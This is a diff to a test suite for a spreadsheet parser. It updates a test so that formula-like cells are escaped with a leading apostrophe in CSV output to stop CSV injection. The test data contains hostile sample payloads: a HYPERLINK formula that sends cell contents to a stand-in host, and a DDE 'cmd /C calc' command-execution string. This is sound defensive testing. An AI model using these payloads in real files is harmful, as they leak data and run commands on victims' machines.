@@ -169,7 +169,7 @@ describe('hostile spreadsheets', () => {
     expect(sheet!.name).toBe('Gastosgpj.exe');
   });
 
-  it('a string cell that looks like a formula stays text; formulas are never evaluated', async () => {
+  it('a string cell that looks like a formula stays text, defused for a spreadsheet opening the CSV; formulas are never evaluated', async () => {
     const injection = '=HYPERLINK("https://malo.example/?q="&A2,"Haga clic")';
     const escaped = injection.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
     const [sheet] = await readSheets(
@@ -182,7 +182,8 @@ describe('hostile spreadsheets', () => {
         ),
       ),
     );
-    expect(sheet!.csv).toBe('"=HYPERLINK(""https://malo.example/?q=""&A2,""Haga clic"")",+SUM(1+1)*cmd|\' /C calc\'!A0,=1+1,,#DIV/0!\r\n');
+    // Each starts with «'»: Excel and LibreOffice show it instead of running it (CSV injection).
+    expect(sheet!.csv).toBe('"\'=HYPERLINK(""https://malo.example/?q=""&A2,""Haga clic"")",\'+SUM(1+1)*cmd|\' /C calc\'!A0,\'=1+1,,#DIV/0!\r\n');
   });
 
   it('entities a DOCTYPE declares are never expanded ("billion laughs")', async () => {
